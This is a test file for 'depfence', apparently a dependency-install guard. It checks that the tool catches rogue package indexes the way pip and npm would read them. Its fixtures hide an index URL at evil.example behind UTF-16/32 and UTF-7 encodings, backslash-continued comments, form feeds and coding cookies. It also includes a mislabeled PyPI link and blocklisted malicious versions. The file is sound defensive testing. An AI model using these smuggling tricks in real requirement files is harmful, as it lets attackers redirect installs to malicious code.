// Issue #10, class 5: depfence reads every input the way the tool that acts on it reads it, so
// nothing can be written that the tool obeys and depfence misses: requirements files decoded and
// joined by pip's rules, .npmrc with ini, specs with npm-package-arg, versions by PEP 440 and
// semver, PyPI links named by their URL.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { decodeRequirements, requirementLines } from '../../src/inputs/requirements.js';
import { inspectNpm } from '../../src/shims/npm/inspect.js';
import { inspectPip } from '../../src/shims/pip/inspect.js';
import { parseHtmlProjectPage } from '../../src/protocol/pypi/parse-html.js';
import { isolatedEnv, runCliInProcess } from '../helpers/cli.js';

const test = suite('inputs/parse-as-tools');
const EVIL = 'http://evil.example/simple';
let dir: string;

test.before(() => {
  dir = mkdtempSync(join(tmpdir(), 'depfence-parse-'));
});

test.after(() => rmSync(dir, { recursive: true, force: true }));

function utf16(text: string, bigEndian = false): Buffer {
  const le = Buffer.from(text, 'utf16le');
  if (!bigEndian) return Buffer.concat([Buffer.from([0xff, 0xfe]), le]);
  const be = Buffer.alloc(le.length);
  for (let at = 0; at < le.length; at += 2) [be[at], be[at + 1]] = [le[at + 1]!, le[at]!];
  return Buffer.concat([Buffer.from([0xfe, 0xff]), be]);
}

test('requirements files are decoded as pip decodes them: byte-order marks, UTF-16/32, coding cookies', () => {
  const text = 'requests==2.31.0\n--extra-index-url http://x/simple\n';
  assert.is(decodeRequirements(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]), 'r'), text);
  assert.is(decodeRequirements(utf16(text), 'r'), text);
  assert.is(decodeRequirements(utf16(text, true), 'r'), text);
  const utf32 = Buffer.alloc(4 + text.length * 4);
  utf32.set([0xff, 0xfe, 0x00, 0x00]);
  Array.from(text).forEach((char, index) => utf32.writeUInt32LE(char.codePointAt(0)!, 4 + index * 4));
  assert.is(decodeRequirements(utf32, 'r'), text);
  assert.is(
    decodeRequirements(Buffer.from('# -*- coding: latin-1 -*-\ncaf\xe9==1\n', 'latin1'), 'r'),
    '# -*- coding: latin-1 -*-\ncafé==1\n',
  );
  assert.throws(() => decodeRequirements(Buffer.from([0x72, 0xff, 0xfe, 0x0a]), 'r'), /cannot be decoded as utf-8/);
});

test("lines are joined and comments stripped by pip's rules", () => {
  const lines = (text: string) =>
    requirementLines(text, { INDEX: EVIL }).map(({ number, requirement, options }) => [number, requirement, options]);
  // A comment ending in a backslash does not continue: the next line is read, and obeyed.
  assert.equal(lines(`# pinned for prod \\\n--index-url ${EVIL}\nflask\n`), [
    [2, '', ['--index-url', EVIL]],
    [3, 'flask', []],
  ]);
  // Continuation joins lines (numbered by the first); # after whitespace is a comment, inside a word it is not.
  assert.equal(lines('requests==2.31.0 \\\n  --hash=sha256:abc # pinned\npkg#egg=x\n'), [
    [1, 'requests==2.31.0', ['--hash=sha256:abc']],
    [3, 'pkg#egg=x', []],
  ]);
  // Python's splitlines also breaks at \f, \v, \x1c-\x1e, \x85, U+2028 and U+2029.
  for (const separator of ['\f', '\v', '\x1c', '\x85', '\u2028', '\u2029']) {
    assert.equal(
      lines(`flask # a comment${separator}-i ${EVIL}`),
      [
        [1, 'flask', []],
        [2, '', ['-i', EVIL]],
      ],
      JSON.stringify(separator),
    );
  }
  // ${VAR} with upper-case names only, when set and not empty.
  assert.equal(lines('-i ${INDEX}\n-i ${index}\n-i ${UNSET}\n'), [
    [1, '', ['-i', EVIL]],
    [2, '', ['-i', '${index}']],
    [3, '', ['-i', '${UNSET}']],
  ]);
});

test('the pip shim refuses an index hidden by an encoding or a comment continuation that pip would obey', async () => {
  const cases: Record<string, Buffer> = {
    'utf16.txt': utf16(`flask\n--extra-index-url ${EVIL}\n`),
    'continued-comment.txt': Buffer.from(`# legacy mirror, see wiki \\\n--index-url ${EVIL}\nflask\n`),
    'form-feed.txt': Buffer.from(`flask # pinned\f--find-links ${EVIL}\n`),
    'cookie.txt': Buffer.from(`# -*- coding: latin-1 -*-\n# caf\xe9\n--extra-index-url ${EVIL}\n`, 'latin1'),
  };
  for (const [file, bytes] of Object.entries(cases)) writeFileSync(join(dir, file), bytes);
  for (const file of Object.keys(cases)) {
    const plan = await inspectPip({
      args: ['install', '-r', join(dir, file)],
      env: { PIP_CONFIG_FILE: '/dev/null' },
      cwd: dir,
      trusted: [],
      realTool: null,
    });
    const refused = plan.settings.filter((setting) => setting.action === 'refuse').map((setting) => setting.value);
    assert.ok(refused.includes(EVIL), `${file}: ${JSON.stringify(plan.settings)}`);
  }
  // UTF-7 can spell "--index-url" as "+AC0-+AC0-index-url": pip decodes it; depfence cannot, so it refuses the file.
  writeFileSync(join(dir, 'utf7.txt'), `# coding: utf-7\n+AC0-+AC0-index-url ${EVIL}\n`);
  const utf7 = await inspectPip({
    args: ['install', '-r', join(dir, 'utf7.txt')],
    env: { PIP_CONFIG_FILE: '/dev/null' },
    cwd: dir,
    trusted: [],
    realTool: null,
  });
  assert.match(utf7.settings.find((setting) => setting.action === 'refuse')?.why ?? '', 'cannot be decoded as utf-7');
});

test("npm specs and .npmrc are read with npm's own libraries", () => {
  const project = join(dir, 'npm-project');
  mkdirSync(project);
  writeFileSync(join(project, 'package.json'), '{"name":"p","version":"1.0.0"}');
  writeFileSync(join(project, '.npmrc'), `"@acme:registry"=${EVIL}\n[section]\nregistry=${EVIL}\n`);
  const git = inspectNpm({
    args: ['install', 'git@github.com:user/repo.git'],
    env: {},
    cwd: project,
    trusted: [],
    realTool: null,
    npx: false,
  });
  assert.equal(
    git.settings.filter((setting) => setting.action === 'refuse').map((setting) => setting.setting),
    ['git dependency'],
    'a git repository, not the package "git"',
  );
  assert.equal(git.packages, []);
  const env = git.environment({ url: 'http://127.0.0.1:4874', dataDir: dir, token: null });
  assert.is(env['npm_config_@acme:registry'], 'http://127.0.0.1:4874/', 'the quoted scope key is redirected');
  assert.is(env.npm_config_registry, 'http://127.0.0.1:4874/');
  assert.not.ok(
    git.settings.some((setting) => setting.setting === 'registry'),
    'a registry inside [section] is not a setting npm reads',
  );
  const alias = inspectNpm({ args: ['install', 'x@npm:debug@v4.4.2'], env: {}, cwd: project, trusted: [], realTool: null, npx: false });
  assert.equal(
    alias.packages.map(({ name, version }) => [name, version]),
    [['debug', '4.4.2']],
  );
});

test('blocklisted versions are denied in every spelling the tools accept (check, pre-flight)', async () => {
  const { code, stdout } = await runCliInProcess(
    [
      'check',
      '--offline',
      '--json',
      'pypi:litellm==1.82.7.0',
      'pypi:litellm==01.82.7',
      'pypi:LiteLLM==1.82.7',
      'npm:debug@v4.4.2',
      'npm:debug@=4.4.2',
      'npm:x@npm:debug@4.4.2',
    ],
    { env: isolatedEnv() },
  );
  const results = (JSON.parse(stdout) as { results: { name: string; version: string; decision: string; findings: { check: string }[] }[] })
    .results;
  for (const result of results)
    assert.ok(
      result.findings.some((finding) => finding.check === 'malicious' && result.decision === 'deny'),
      `${result.name}@${result.version}: ${result.decision}`,
    );
  assert.equal(
    results.map((result) => `${result.name}@${result.version}`),
    ['litellm@1.82.7.0', 'litellm@01.82.7', 'LiteLLM@1.82.7', 'debug@4.4.2'],
    'the three npm spellings are one version',
  );
  assert.is(code, 1);
  writeFileSync(join(dir, 'requirements-utf16.txt'), utf16('litellm==1.82.7.0\n'));
  const file = await runCliInProcess(['check', '--offline', '--json', '--file', join(dir, 'requirements-utf16.txt')], {
    env: isolatedEnv(),
  });
  assert.is(file.code, 1, file.stdout + file.stderr);
});

test("PyPI HTML links are named by their URL's last segment, as pip and uv name them", () => {
  const page = parseHtmlProjectPage(
    [
      '<a href="https://files.example/safe_pkg-1.0-py3-none-any.whl#sha256=aa">safe_pkg-1.0-py3-none-any.whl</a>',
      '<a href="https://files.example/evil_pkg-9.9-py3-none-any.whl#sha256=bb">safe_pkg-1.1-py3-none-any.whl</a>',
      '<a href="https://files.example/plain-2.0.tar.gz#sha256=cc"></a>',
    ].join('\n'),
    'https://index.example/simple/safe-pkg/',
    'safe-pkg',
  );
  const files = page.files.map((file) => [file.filename, file.unreadable ?? null]);
  assert.equal(files[0], ['safe_pkg-1.0-py3-none-any.whl', null]);
  assert.is(files[1]![0], 'evil_pkg-9.9-py3-none-any.whl', 'the file pip would install');
  assert.match(String(files[1]![1]), 'names another file than its URL');
  assert.equal(files[2], ['plain-2.0.tar.gz', null]);
});

test.run();
